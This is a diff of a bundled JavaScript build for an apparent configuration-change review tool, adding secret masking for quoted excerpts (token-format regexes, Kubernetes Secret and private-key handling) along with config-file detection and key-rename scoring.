+  const rules8 = new Map(analyzers2.map((analyzer) => [analyzer.domain, byKind(analyzer.rules)]));
   const modifiers4 = new Map(analyzers2.map((analyzer) => [analyzer.domain, analyzer.modifiers ?? []]));
   const findings2 = facts.flatMap(
-    (fact5) => (rules7.get(fact5.domain)?.get(fact5.change.kind) ?? []).flatMap(
+    (fact5) => (rules8.get(fact5.domain)?.get(fact5.change.kind) ?? []).flatMap(
       (rule) => judge(rule, fact5, modifiers4.get(fact5.domain) ?? [])
     )
   );
   return merge(findings2.toSorted(byPlace)).toSorted(byPlace);
 }
-function byKind(rules7) {
+function byKind(rules8) {
   const index = /* @__PURE__ */ new Map();
-  for (const rule of rules7) {
+  for (const rule of rules8) {
     for (const kind of [rule.on].flat()) index.set(kind, [...index.get(kind) ?? [], rule]);
   }
   return index;
@@ -12967,7 +12973,7 @@ var init_match = __esm({
   "src/core/match.ts"() {
     "use strict";
     matchesChange = (change2, match2) => isAmong(change2.kind, match2.bump) && isAmong(textOf(change2, "ecosystem"), match2.ecosystem) && (match2.direct === void 0 || Reflect.get(change2, "direct") === match2.direct) && matchesNames(change2, match2);
-    matchesNames = (change2, { name, path: path25 }) => (name === void 0 || name(textOf(change2, "name") ?? change2.subject)) && (path25 === void 0 || path25((change2.after ?? change2.before)?.path ?? ""));
+    matchesNames = (change2, { name, path: path26 }) => (name === void 0 || name(textOf(change2, "name") ?? change2.subject)) && (path26 === void 0 || path26((change2.after ?? change2.before)?.path ?? ""));
     isAmong = (value, allowed2) => allowed2 === void 0 || value !== void 0 && allowed2.includes(value);
   }
 });
@@ -13041,8 +13047,8 @@ function decide(found, policy5) {
 }
 function reassess(finding2, settings) {
   const own3 = settingsFor(finding2, settings).find(({ risk: risk2 }) => risk2 !== void 0)?.risk ?? finding2.risk;
-  const path25 = pathOf2(finding2);
-  const steps3 = settings.paths.risk.filter(({ matches: matches2 }) => matches2(path25)).reduce((sum2, entry2) => sum2 + entry2.steps, 0);
+  const path26 = pathOf2(finding2);
+  const steps3 = settings.paths.risk.filter(({ matches: matches2 }) => matches2(path26)).reduce((sum2, entry2) => sum2 + entry2.steps, 0);
   return { ...finding2, risk: shiftRisk(own3, steps3) };
 }
 function blocks(finding2, settings) {
@@ -13082,7 +13088,7 @@ var init_decide = __esm({
     init_approvals();
     init_vulnerabilities();
     init_waivers();
-    settingsFor = ({ rule, class: ofClass, domain: domain2 }, { rules: rules7 }) => [rule, `class:${ofClass}`, `domain:${domain2}`].flatMap((name) => rules7.get(name) ?? []);
+    settingsFor = ({ rule, class: ofClass, domain: domain2 }, { rules: rules8 }) => [rule, `class:${ofClass}`, `domain:${domain2}`].flatMap((name) => rules8.get(name) ?? []);
     isOff = (finding2, settings) => settingsFor(finding2, settings)[0]?.off === true;
     pathOf2 = ({ after: after2, before: before3 }) => (after2 ?? before3)?.path ?? "";
     reaches = (risk2, failOn2) => failOn2 !== "never" && compareRisk(risk2, failOn2) >= 0;
@@ -13161,18 +13167,23 @@ var init_line_diff = __esm({
 
 // src/core/secrets.ts
 function maskSecrets(line2) {
-  let masked = line2;
-  for (const { pattern } of SECRET_PATTERNS) masked = masked.replace(new RegExp(pattern, `${pattern.flags}g`), MASK);
+  let masked = line2.replace(PRIVATE_KEY, MASK);
+  for (const pattern of ALL_OVER) masked = masked.replace(pattern, MASK);
   const [, indent = "", key4 = "", separator = "", value = ""] = ASSIGNMENT.exec(masked) ?? [];
   if (isSecretKey(key4) && !isReference(value)) return `${indent}${key4}${separator}${MASK}`;
+  masked = masked.replace(
+    INLINE,
+    (text4, name, between3, inner) => isSecretKey(name) && !isReference(inner.replace(/\\?["']/g, "")) ? `${name}${between3}${MASK}` : text4
+  );
+  if (ONLY_BASE64.test(masked)) return MASK;
   return masked.replace(LONG_BASE64, (text4) => /^[0-9a-f]{40}$|^[0-9a-f]{64}$|[/_-].*[/_-]/.test(text4) ? text4 : MASK);
 }
 function isReference(value) {
   const text4 = value.replace(/\s#.*$/, "").trim();
-  const bare3 = /^(["']).*\1$/.test(text4) ? text4.slice(1, -1) : text4;
-  return PLAIN.test(bare3) || REFERENCES.some((pattern) => pattern.test(bare3));
+  const bare4 = /^(["']).*\1$/.test(text4) ? text4.slice(1, -1) : text4;
+  return PLAIN.test(bare4) || REFERENCES.some((pattern) => pattern.test(bare4));
 }
-var SECRET_PATTERNS, SECRET_KEY, spaced, isSecretKey, ASSIGNMENT, LONG_BASE64, MASK, REFERENCES, PLAIN;
+var SECRET_PATTERNS, SECRET_KEY, spaced, isSecretKey, ALL_OVER, ASSIGNMENT, INLINE, PRIVATE_KEY, ONLY_BASE64, LONG_BASE64, MASK, REFERENCES, PLAIN;
 var init_secrets = __esm({
   "src/core/secrets.ts"() {
     "use strict";
@@ -13190,7 +13201,17 @@ var init_secrets = __esm({
       { name: "Anthropic key", pattern: /\bsk-ant-[A-Za-z0-9_-]{32,}/ },
       { name: "SendGrid key", pattern: /\bSG\.[A-Za-z0-9_-]{20,24}\.[A-Za-z0-9_-]{40,50}/ },
       { name: "Twilio key", pattern: /\bSK[0-9a-f]{32}\b/ },
-      { name: "Vault token", pattern: /\bhvs\.[A-Za-z0-9_-]{24,}/ },
+      { name: "Vault token", pattern: /\bhv[bsr]\.[A-Za-z0-9_-]{24,}/ },
+      { name: "Shopify token", pattern: /\bshp(?:at|ca|pa|ss)_[0-9a-fA-F]{32}\b/ },
+      { name: "Linear key", pattern: /\blin_api_[A-Za-z0-9]{32,}/ },
+      { name: "Groq key", pattern: /\bgsk_[A-Za-z0-9]{40,}/ },
+      { name: "Hugging Face token", pattern: /\bhf_[A-Za-z]{34}\b/ },
+      { name: "Notion token", pattern: /\b(?:ntn_[A-Za-z0-9]{40,}|secret_[A-Za-z0-9]{43}\b)/ },
+      { name: "Grafana token", pattern: /\bgl(?:sa_[A-Za-z0-9]{32}_[0-9a-f]{8}|c_eyJ[A-Za-z0-9+/=]{30,})/ },
+      { name: "Databricks token", pattern: /\bdapi[0-9a-f]{32}(?:-\d)?\b/ },
+      { name: "Docker token", pattern: /\bdckr_[op]at_[A-Za-z0-9_-]{24,}/ },
+      { name: "Figma token", pattern: /\bfig[dou]_[A-Za-z0-9_-]{36,}/ },
+      { name: "1Password token", pattern: /\bops_eyJ[A-Za-z0-9+/=_-]{100,}/ },
       { name: "Azure storage key", pattern: /AccountKey=[A-Za-z0-9+/=]{40,}/ },
       { name: "JSON web token", pattern: /\beyJ[A-Za-z0-9_-]{10,1000}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/ },
       { name: "private key", pattern: /-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----/ },
@@ -13202,7 +13223,11 @@ var init_secrets = __esm({
     SECRET_KEY = /(?:^|[^a-z])(?:password|passwd|passphrase|pwd|secret|token|api[-_. ]?key|apikey|access[-_. ]?key|private[-_. ]?key|client[-_. ]?secret|secret[-_. ]?key|encryption[-_. ]?key|signing[-_. ]?key|auth[-_. ]?key|connection[-_. ]?string|credentials?)$/;
     spaced = (key4) => key4.replace(/([a-z0-9])([A-Z])/g, "$1-$2").toLowerCase();
     isSecretKey = (key4) => SECRET_KEY.test(spaced(key4));
+    ALL_OVER = SECRET_PATTERNS.map(({ pattern }) => new RegExp(pattern, `${pattern.flags}g`));
     ASSIGNMENT = /^(\s*(?:-\s+)?["']?)([\w.\-/]+)(["']?\s*[:=]\s*)(\S.*)$/;
+    INLINE = /(?<![\w.\-/])(?:--)?([\w.\-/]+)((?:\\?["'])?\s{0,8}[:=]\s{0,8})(\\?"(?:[^"\\]|\\(?!"))*\\?"|'[^']*'|\$?\{\{?[^{}]*\}\}?|[^\s"',}\]]+)/g;
+    PRIVATE_KEY = /-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY.*/s;
+    ONLY_BASE64 = /^\s*[A-Za-z0-9+/]{40,}={0,2}\s*$/;
     LONG_BASE64 = /(?<![\w/+-])[A-Za-z0-9+/_-]{40,}={0,2}(?![\w/+-])/g;
     MASK = "•••";
     REFERENCES = [
@@ -13215,6 +13240,93 @@ var init_secrets = __esm({
       /^(?:ENC\[|vault:|ref\+[a-z])/
     ];
     PLAIN = /^(?:true|false|null|~|[|>][+-]?\d?|)$/i;
+  }
+});
+
+// src/core/mask-lines.ts
+function lineMasker(lines) {
+  const hiddenLines = linesOfSecrets(lines);
+  const below7 = new Below();
+  for (const [i, line2] of lines.entries()) if (below7.holds(line2)) hiddenLines.add(i);
+  return (number3) => {
+    const line2 = lines[number3 - 1] ?? "";
+    return hiddenLines.has(number3 - 1) ? hidden(line2) : maskSecrets(line2);
+  };
+}
+function hidden(line2) {
+  const [, indent = "", name = "", value] = KEY.exec(line2) ?? [];
+  if (line2.trim() === "") return line2;
+  if (name === "") return `${/^\s*/.exec(line2)?.[0] ?? ""}${MASK2}`;
+  return value === void 0 ? line2 : `${indent}${name}: ${MASK2}`;
+}
+function linesOfSecrets(lines) {
+  const found = /* @__PURE__ */ new Set();
+  let start2 = 0;
+  for (let i = 0; i <= lines.length; i++) {
+    if (i < lines.length && !lines[i]?.startsWith("---")) continue;
+    const document2 = lines.slice(start2, i);
+    const holders2 = document2.some((line2) => SECRET_OBJECT.test(line2)) ? DATA : GENERATOR;
+    for (const line2 of linesBelow(document2, holders2)) found.add(start2 + line2);
+    start2 = i + 1;
+  }
+  return found;
+}
+function linesBelow(document2, holders2) {
+  let isData = false;
+  return document2.flatMap((line2, i) => {
+    if (/^[^\s#]/.test(line2)) {
+      isData = holders2.test(line2) || isData && line2.startsWith("-");
+      return isData && /:\s*\S/.test(line2) ? [i] : [];
+    }
+    return isData ? [i] : [];
+  });
+}
+var MASK2, BEGIN, END, KEY, BLOCK, NAMED, SECRET_OBJECT, Below, indentOf, DATA, GENERATOR;
+var init_mask_lines = __esm({
+  "src/core/mask-lines.ts"() {
+    "use strict";
+    init_secrets();
+    MASK2 = "•••";
+    BEGIN = /-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY/;
+    END = /-----END /;
+    KEY = /^(\s*(?:-\s+)?)["']?([\w.\-/]+)["']?\s*:(?:\s+(\S.*))?$/;
+    BLOCK = /^(?:[&!]\S+\s+)*[|>][-+\d]{0,2}(?:\s+#.*)?$/;
+    NAMED = /^\s*-?\s*name:\s*["']?([\w.\-/]+)["']?\s*$/;
+    SECRET_OBJECT = /^kind:\s*["']?Secret["']?\s*(?:#.*)?$/;
+    Below = class {
+      /** The indentation of the key whose text is secret. */
+      #indent;
+      /** Whether that key's value may as well be a map, which is no secret. */
+      #mayBeMap = false;
+      #inKey = false;
+      /** The line above names a secret: `- name: API_TOKEN`. */
+      #isNamed = false;
+      holds(line2) {
+        const isInKey = this.#inKey;
+        this.#inKey = isInKey && !END.test(line2) || BEGIN.test(line2) && !END.test(line2);
+        const isBelow3 = this.#isBelow(line2);
+        const isValue2 = this.#isNamed && /^\s*value:/.test(line2);
+        if (!isBelow3) this.#open(line2, isValue2);
+        this.#isNamed = isSecretKey(NAMED.exec(line2)?.[1] ?? "");
+        return isInKey || isBelow3 || isValue2;
+      }
+      #isBelow(line2) {
+        if (this.#indent === void 0) return false;
+        const isOutside = line2.trim() !== "" && indentOf(line2) <= this.#indent;
+        const isMap4 = this.#mayBeMap && KEY.test(line2);
+        if (isOutside || isMap4) this.#indent = void 0;
+        return this.#indent !== void 0;
+      }
+      #open(line2, isValue2) {
+        const [, , name = "", value] = KEY.exec(line2) ?? [];
+        if (!isValue2 && !isSecretKey(name)) return;
+        this.#mayBeMap = value === void 0;
+        if (this.#mayBeMap || BLOCK.test(value ?? "")) this.#indent = indentOf(line2);
+      }
+    };
+    indentOf = (line2) => /^\s*/.exec(line2)?.[0].length ?? 0;
+    DATA = /^(?:data|stringData):/;
+    GENERATOR = /^secretGenerator:/;
   }
 });
 
@@ -13234,15 +13346,13 @@ async function excerptOf({ change: change2, before: before3, after: after2 }, ch
   const excerpt2 = { removed: within(lines.removed, before3), added: within(lines.added, after2) };
   return excerpt2.removed.length + excerpt2.added.length === 0 ? void 0 : excerpt2;
 }
-function within(lines, place5) {
+function within({ numbers, masked }, place5) {
   if (place5 === void 0) return [];
   const { line: line2, endLine = line2 } = place5;
-  const texts2 = [];
-  for (let number3 = line2; number3 <= endLine && texts2.length < MOST_LINES; number3++) {
-    const text4 = lines.get(number3);
-    if (text4 !== void 0) texts2.push(maskSecrets(text4));
-  }
-  return texts2;
+  const lines = [];
+  for (let number3 = line2; number3 <= endLine && lines.length < MOST_LINES; number3++)
+    if (numbers.has(number3)) lines.push(masked(number3));
+  return lines;
 }
 function changeReader(base, head) {
   const pairs = /* @__PURE__ */ new Map();
@@ -13254,25 +13364,27 @@ function changeReader(base, head) {
   };
 }
 function changedLines([before3, after2]) {
-  const removed3 = /* @__PURE__ */ new Map();
-  const added2 = /* @__PURE__ */ new Map();
+  const [removed3, added2] = [/* @__PURE__ */ new Set(), /* @__PURE__ */ new Set()];
   let [old, now] = [0, 0];
-  for (const { mark, text: text4 } of lineDiff(before3, after2)) {
+  for (const { mark } of lineDiff(before3, after2)) {
     if (mark !== "+") old += 1;
     if (mark !== "-") now += 1;
-    if (mark === "-") removed3.set(old, text4);
-    if (mark === "+") added2.set(now, text4);
+    if (mark === "-") removed3.add(old);
+    if (mark === "+") added2.add(now);
   }
-  return { removed: removed3, added: added2 };
+  return {
+    removed: { numbers: removed3, masked: lineMasker(before3) },
+    added: { numbers: added2, masked: lineMasker(after2) }
+  };
 }
 var MOST_LINES, lineReader, split;
 var init_quote = __esm({
   "src/quote.ts"() {
     "use strict";
     init_line_diff();
-    init_secrets();
+    init_mask_lines();
     MOST_LINES = 6;
-    lineReader = (tree2) => async (path25) => path25 === void 0 ? [] : tree2.read(path25).then(split, () => []);
+    lineReader = (tree2) => async (path26) => path26 === void 0 ? [] : tree2.read(path26).then(split, () => []);
     split = (text4) => text4 === void 0 ? [] : text4.split(/\r?\n/);
   }
 });
@@ -13536,9 +13648,9 @@ async function serveReview(load) {
 function outsideBy(line2) {
   return {
     async open() {
-      const opened5 = read(repository, await line2.ask({ say: "open" }) ?? "");
+      const opened4 = read(repository, await line2.ask({ say: "open" }) ?? "");
       return {
-        ...opened5,
+        ...opened4,
         notes: [],
         base: treeBy(line2, "base"),
         head: treeBy(line2, "head"),
@@ -13581,24 +13693,24 @@ var init_child = __esm({
       })
     });
     treeBy = (line2, side3, domain2) => ({
-      read: (path25) => line2.ask({ say: "read", side: side3, ...domain2 === void 0 ? {} : { domain: domain2 } }, path25),
+      read: (path26) => line2.ask({ say: "read", side: side3, ...domain2 === void 0 ? {} : { domain: domain2 } }, path26),
       list: async (prefix2 = "") => (await line2.ask({ say: "list", side: side3 }, prefix2) ?? "").split("\0").filter(Boolean)
     });
   }
 });
 
 // src/core/unreadable.ts
-async function readSide(tree2, path25) {
+async function readSide(tree2, path26) {
   try {
-    return { value: await tree2.read(path25) };
+    return { value: await tree2.read(path26) };
   } catch (error) {
     return { error: asUnreadable(error) };
   }
 }
-function parseSide(text4, path25, parse8) {
+function parseSide(text4, path26, parse8) {
   if ("error" in text4) return text4;
   try {
-    return { value: text4.value === void 0 ? void 0 : parse8(text4.value, path25) };
+    return { value: text4.value === void 0 ? void 0 : parse8(text4.value, path26) };
   } catch (error) {
     return { error: asUnreadable(error) };
   }
@@ -13624,13 +13736,13 @@ async function parsePairs(input2, parse8, isSame4 = () => false) {
 }
 async function parseSides(file2, { base, head }, parse8, isSame4) {
   const none = { value: void 0 };
-  const { path: path25, previousPath = path25, status } = file2;
+  const { path: path26, previousPath = path26, status } = file2;
   const [before3, after2] = await Promise.all([
     status === "added" ? none : readSide(base, previousPath),
-    status === "deleted" ? none : readSide(head, path25)
+    status === "deleted" ? none : readSide(head, path26)
   ]);
-  if (path25 === previousPath && areSame(before3, after2, isSame4)) return void 0;
-  return { file: file2, before: parseSide(before3, previousPath, parse8), after: parseSide(after2, path25, parse8) };
+  if (path26 === previousPath && areSame(before3, after2, isSame4)) return void 0;
+  return { file: file2, before: parseSide(before3, previousPath, parse8), after: parseSide(after2, path26, parse8) };
 }
 function areSame(before3, after2, isSame4) {
   if ("error" in before3 || "error" in after2) return false;
@@ -13642,11 +13754,11 @@ function unreadableSides(file2, before3, after2) {
   if ("error" in before3) return [unreadableFact(file2.previousPath ?? file2.path, "base", before3.error, bothSides)];
   return [];
 }
-function unreadableFact(path25, side3, error, bothSides = false) {
-  const place5 = { path: path25, line: error.line };
+function unreadableFact(path26, side3, error, bothSides = false) {
+  const place5 = { path: path26, line: error.line };
   return {
     kind: "file-unreadable",
-    subject: path25,
+    subject: path26,
     side: side3,
     reason: error.message,
     bothSides,
@@ -13705,132 +13817,6 @@ var init_unreadable = __esm({
   }
 });
 
-// src/domains/config/aggregate.ts
-function aggregate(facts) {
-  const subjects = /* @__PURE__ */ new Map();
-  for (const fact5 of facts) {
-    const known3 = subjects.get(causeOf(fact5)) ?? /* @__PURE__ */ new Set();
-    subjects.set(causeOf(fact5), known3.add(fact5.subject));
-  }
-  return facts.map((fact5) => (subjects.get(causeOf(fact5))?.size ?? 0) > 1 ? fact5 : withoutGroup(fact5));
-}
-function withoutGroup(fact5) {
-  const { group: _group, ...rest } = fact5;
-  return rest;
-}
-var causeOf;
-var init_aggregate = __esm({
-  "src/domains/config/aggregate.ts"() {
-    "use strict";
-    causeOf = (fact5) => `${fact5.kind} ${fact5.kind === "control-moved" ? fact5.control : ""} ${fact5.group ?? fact5.subject}`;
-  }
-});
-
-// src/domains/config/area.ts
-function areaOf(path25) {
-  if (TEST.test(path25)) return "test";
-  return PRODUCTION.test(path25) ? "production" : void 0;
-}
-var TEST, PRODUCTION;
-var init_area = __esm({
-  "src/domains/config/area.ts"() {
-    "use strict";
-    TEST = /(?:^|[/_.-])(?:tests?|testing|testdata|test-data|e2e|integration|examples?|samples?|demos?|docs?|fixtures?|mocks?|benchmarks?|hack|tutorials?|vendor|third_party|node_modules)(?:[/_.-]|$)/i;
-    PRODUCTION = /(?:^|[/_.-])(?:prod|production|prd|live)(?:[/_.-]|$)/i;
-  }
-});
-
-// src/domains/config/setting.ts
-function nameOf(path25) {
-  const [last2, above] = [path25.at(-1), path25.at(-2)];
-  if (last2 === void 0) return "";
-  if (last2.kind === "item") return last2.name ?? nameOf(path25.slice(0, -1));
-  if (above?.kind === "item" && last2.name === "value") return above.name ?? last2.name;
-  return above !== void 0 && SWITCHES.has(last2.name.toLowerCase()) ? `${nameOf(path25.slice(0, -1))}.${last2.name}` : unflagged(last2.name);
-}
-function tellingName({ name, keys, path: path25 }) {
-  const above = keys.at(-2);
-  return above !== void 0 && path25.at(-1)?.kind === "key" && COMMON.test(name) ? `${above}.${name}` : name;
-}
-function displayPath(path25) {
-  let shown5 = "";
-  for (const step3 of path25) {
-    if (step3.kind === "item") shown5 += `[${step3.label}]`;
-    else shown5 += shown5 === "" ? step3.name : `.${step3.name}`;
-  }
-  return shown5;
-}
-function subjectOf(document2, path25) {
-  const shown5 = displayPath(path25);
-  if (document2.title === void 0) return shown5 === "" ? document2.path : shown5;
-  return shown5 === "" ? document2.title : `${document2.title}: ${shown5}`;
-}
-function placesOf(setting) {
-  const { document: document2, before: before3, after: after2, ownerBefore, ownerAfter } = setting;
-  const old = place(document2.before?.path, before3 ?? (setting.owner === "kept" ? void 0 : ownerBefore));
-  const now = place(document2.after?.path, after2 ?? ownerAfter);
-  return { ...old && before3 ? { before: old } : {}, ...now ? { after: now } : {} };
-}
-var SWITCHES, COMMON, unflagged, place;
-var init_setting = __esm({
-  "src/domains/config/setting.ts"() {
-    "use strict";
-    SWITCHES = /* @__PURE__ */ new Set(["enabled", "enable", "enforce", "enforced", "mode", "required", "active", "level", "type"]);
-    COMMON = /^(?:cpu|memory|storage|ephemeral-storage|size|count|limit|min|max|host|port|path|url|address|user|name|key|value|version|timeout|interval|period|class|policy|strategy|provider)$/i;
-    unflagged = (name) => name.replace(/^-{1,2}(?:D(?=[a-z]))?/, "");
-    place = (path25, node2) => path25 === void 0 || node2 === void 0 ? void 0 : { path: path25, line: node2.line, ...node2.endLine > node2.line ? { endLine: node2.endLine } : {} };
-  }
-});
-
-// src/domains/config/context.ts
-function contextOf({ dialect: dialect26, area, isPublic }) {
-  return {
-    ...dialect26 === void 0 ? {} : { dialect: dialect26 },
-    ...area === void 0 ? {} : { area },
-    ...isPublic ? { isPublic } : {}
-  };
-}
-function whereabouts(setting, key4) {
-  const { document: document2, path: path25, keys } = setting;
-  const subject = subjectOf(document2, path25);
-  const last2 = path25.at(-1);
-  const tail2 = last2?.kind === "item" ? `${keys.at(-1) ?? ""}[${last2.label}]` : keys.slice(-2).join(".");
-  return {
-    subject,
-    key: key4,
-    group: `${tail2 || subject}#${key4}`,
-    ...placesOf(setting),
-    ...contextOf(document2)
-  };
-}
-var init_context = __esm({
-  "src/domains/config/context.ts"() {
-    "use strict";
-    init_setting();
-  }
-});
-
-// src/domains/config/fact-at.ts
-function factAt(pair2, path25, key4, { before: before3, after: after2 }) {
-  const [old, now] = [place(pair2.before?.path, before3), place(pair2.after?.path, after2)];
-  return {
-    subject: subjectOf(pair2, path25),
-    key: key4,
-    ...contextOf(pair2),
-    ...old ? { before: old } : {},
-    ...now ? { after: now } : {}
-  };
-}
-var key;
-var init_fact_at = __esm({
-  "src/domains/config/fact-at.ts"() {
-    "use strict";
-    init_context();
-    init_setting();
-    key = (name) => ({ kind: "key", name });
-  }
-});
-
 // src/domains/config/likeness.ts
 function signature(node2) {
   const tag2 = node2.tag ?? "";
@@ -13857,12 +13843,12 @@ function leavesOf(root) {
   const leaves = /* @__PURE__ */ new Map();
   const waiting = [["", root]];
   for (let next = waiting.pop(); next !== void 0 && leaves.size < MOST_LEAVES; next = waiting.pop()) {
-    const [path25, node2] = next;
+    const [path26, node2] = next;
     if (node2.kind === "scalar") {
-      const leaf = `${path25}=${node2.text}`;
+      const leaf = `${path26}=${node2.text}`;
       leaves.set(leaf, (leaves.get(leaf) ?? 0) + 1);
-    } else if (node2.kind === "list") for (const item2 of node2.items) waiting.push([`${path25}[]`, item2]);
-    else for (const [key4, value] of node2.entries) waiting.push([`${path25}.${key4}`, value]);
+    } else if (node2.kind === "list") for (const item2 of node2.items) waiting.push([`${path26}[]`, item2]);
+    else for (const [key4, value] of node2.entries) waiting.push([`${path26}.${key4}`, value]);
   }
   cache.set(root, leaves);
   return leaves;
@@ -13874,6 +13860,320 @@ var init_likeness = __esm({
     MOST_LEAVES = 500;
     cache = /* @__PURE__ */ new WeakMap();
     sum = (leaves) => [...leaves.values()].reduce((total, count7) => total + count7, 0);
+  }
+});
+
+// src/domains/config/claims.ts
+function isConfiguration(path26) {
+  if (/\.ya?ml$/i.test(path26)) return !LOCKED.test(path26);
+  const name = path26.slice(path26.lastIndexOf("/") + 1);
+  return !ELSEWHERE.test(path26) && (IN_CONFIG.test(path26) || NAMES.some((pattern) => pattern.test(name)));
+}
+var NAMES, ELSEWHERE, IN_CONFIG, LOCKED;
+var init_claims = __esm({
+  "src/domains/config/claims.ts"() {
+    "use strict";
+    NAMES = [
+      /^appsettings(?:\.[\w-]+)?\.json$/i,
+      /^(?:local|host)\.settings\.json$/i,
+      /^(?:app-?)?config(?:uration)?(?:[.-](?:dev|development|stag|staging|prod|production|live|default|local|test))?\.jsonc?$/i,
+      /^(?:openapi|swagger)(?:[.-][\w.-]+)?\.json$/i,
+      /[.-]template\.json$/i
+    ];
+    ELSEWHERE = /(?:^|\/)(?:\.[^/]+|node_modules|vendor|templates|locales?|i18n|schemas?|fixtures?|testdata)\//i;
+    IN_CONFIG = /(?:^|\/)config\/(?:default|development|staging|production)\.json$/i;
+    LOCKED = /(?:^|\/)pnpm-lock\.yaml$/;
+  }
+});
+
+// src/domains/config/words.ts
+var wordsOf, NEGATIONS, isNegative;
+var init_words = __esm({
+  "src/domains/config/words.ts"() {
+    "use strict";
+    wordsOf = (name) => name.replace(/([a-z0-9])([A-Z])/g, "$1 $2").replace(/([A-Z]+)([A-Z][a-z])/g, "$1 $2").toLowerCase().split(/[^a-z0-9]+/).filter((word2) => word2 !== "");
+    NEGATIONS = /* @__PURE__ */ new Set([
+      "disable",
+      "disabled",
+      "skip",
+      "no",
+      "not",
+      "without",
+      "ignore",
+      "bypass",
+      "exclude",
+      "deny",
+      "off",
+      "non"
+    ]);
+    isNegative = (name) => wordsOf(name).filter((word2) => NEGATIONS.has(word2)).length % 2 === 1;
+  }
+});
+
+// src/domains/config/readers/hint.ts
+async function hintIn(tree2, path26) {
+  try {
+    return await tree2.read(path26);
+  } catch (error) {
+    if (error instanceof Unreadable || error instanceof UserError) return void 0;
+    throw error;
+  }
+}
+var init_hint = __esm({
+  "src/domains/config/readers/hint.ts"() {
+    "use strict";
+    init_errors();
+  }
+});
+
+// src/domains/config/readers/evidence.ts
+async function evidenceIn({ changed: changed4, base, head }) {
+  const readers = changed4.filter(isReader);
+  if (readers.length === 0 || readers.length > MOST_FILES) return noEvidence;
+  const swaps = await Promise.all(readers.map((file2) => swapOf(file2, base, head)));
+  return (from3, to2) => swaps.find(({ gone: gone7, come }) => holds(gone7, from3) && holds(come, to2))?.path;
+}
+async function swapOf({ path: path26, previousPath }, base, head) {
+  const [before3, after2] = await Promise.all([namesIn2(base, previousPath ?? path26), namesIn2(head, path26)]);
+  return { path: path26, gone: without(before3, after2), come: without(after2, before3) };
+}
+async function namesIn2(tree2, path26) {
+  const text4 = await hintIn(tree2, path26) ?? "";
+  const written3 = text4.length > LONGEST3 ? [] : text4.match(/[\w-]+/g) ?? [];
+  return new Set(written3.flatMap((name) => [name, folded(name)]));
+}
+var noEvidence, LONGEST3, MOST_FILES, NO_READER, TEMPLATE, isReader, without, folded, holds;
+var init_evidence = __esm({
+  "src/domains/config/readers/evidence.ts"() {
+    "use strict";
+    init_claims();
+    init_words();
+    init_hint();
+    noEvidence = () => void 0;
+    LONGEST3 = 3e5;
+    MOST_FILES = 200;
+    NO_READER = /\.(?:md|mdx|rst|adoc|txt|json|lock|sum|csv|svg|html?|snap|golden)$/i;
+    TEMPLATE = /(?:^|\/)templates\//;
+    isReader = ({ path: path26, status, special }) => (status === "modified" || status === "renamed") && special === void 0 && !NO_READER.test(path26) && (!isConfiguration(path26) || TEMPLATE.test(path26));
+    without = (names4, others) => new Set([...names4].filter((name) => !others.has(name)));
+    folded = (name) => `~${wordsOf(name).join("")}`;
+    holds = (names4, name) => names4.has(name) || names4.has(folded(name));
+  }
+});
+
+// src/domains/config/renames.ts
+function matchKeys(removed3, added2, evidence = noEvidence) {
+  if (removed3.length === 0 || added2.length === 0 || removed3.length * added2.length > MOST_PAIRS) return NO_MATCHES;
+  const scored2 = removed3.flatMap((old) => added2.map((now) => ({ from: old[0], to: now[0], score: scoreOf4(old, now, evidence) }))).filter(({ score: score2 }) => score2 > MAYBE - MARGIN).toSorted((a, b3) => b3.score - a.score);
+  const [renamed5, maybe] = [/* @__PURE__ */ new Map(), /* @__PURE__ */ new Map()];
+  const taken2 = /* @__PURE__ */ new Set();
+  for (const pair2 of scored2.filter(({ score: score2 }) => score2 >= MAYBE)) {
+    if (renamed5.has(pair2.to) || taken2.has(pair2.from)) continue;
+    const free = scored2.filter(({ from: from3, to: to2 }) => !taken2.has(from3) && !renamed5.has(to2));
+    taken2.add(pair2.from);
+    if (free.some((other) => isRival(other, pair2))) continue;
+    if (pair2.score >= RENAME) renamed5.set(pair2.to, pair2.from);
+    else maybe.set(pair2.from, pair2.to);
+  }
+  return { renamed: renamed5, maybe };
+}
+function scoreOf4([oldName, old], [newName, now], evidence) {
+  if (isNegative(oldName) !== isNegative(newName)) return 0;
+  if (isRespelled(oldName, newName)) return 1 + valueScore(old, now);
+  const own3 = 0.5 * nameScore(oldName, newName) + 0.5 * valueScore(old, now);
+  return own3 < RENAME && old.kind === now.kind && evidence(oldName, newName) !== void 0 ? own3 + EVIDENCE : own3;
+}
+function nameScore(a, b3) {
+  const [left, right] = [new Set(wordsOf(a)), new Set(wordsOf(b3))];
+  const shared2 = [...left].filter((word2) => right.has(word2)).length;
+  const jaccard = shared2 / (left.size + right.size - shared2 || 1);
+  const contained = shared2 > 0 && shared2 === Math.min(left.size, right.size) ? 0.8 : 0;
+  return Math.max(jaccard, contained, 1 - distance2(a, b3) / Math.max(a.length, b3.length, 1));
+}
+function valueScore(a, b3) {
+  if (a.kind !== b3.kind) return 0.1;
+  if (a.kind !== "scalar" || b3.kind !== "scalar") return likeness(a, b3);
+  if (a.text === b3.text) return isTrivial(a.text) ? 0.6 : 1;
+  return typeof a.value === typeof b3.value ? 0.4 : 0.1;
+}
+function distance2(a, b3) {
+  if (a.length > LONGEST_NAME || b3.length > LONGEST_NAME) return Math.max(a.length, b3.length);
+  let row3 = Array.from({ length: b3.length + 1 }, (_3, i) => i);
+  for (let i = 0; i < a.length; i++) {
+    const next = [i + 1];
+    for (let j3 = 0; j3 < b3.length; j3++)
+      next.push(Math.min((row3[j3] ?? 0) + Number(a[i] !== b3[j3]), (row3[j3 + 1] ?? 0) + 1, (next[j3] ?? 0) + 1));
+    row3 = next;
+  }
+  return row3[b3.length] ?? 0;
+}
+var RENAME, MAYBE, MARGIN, EVIDENCE, MOST_PAIRS, NO_MATCHES, matchRenames, isRival, isRespelled, isTrivial, LONGEST_NAME;
+var init_renames = __esm({
+  "src/domains/config/renames.ts"() {
+    "use strict";
+    init_likeness();
+    init_evidence();
+    init_words();
+    RENAME = 0.7;
+    MAYBE = 0.5;
+    MARGIN = 0.1;
+    EVIDENCE = 0.25;
+    MOST_PAIRS = 2500;
+    NO_MATCHES = { renamed: /* @__PURE__ */ new Map(), maybe: /* @__PURE__ */ new Map() };
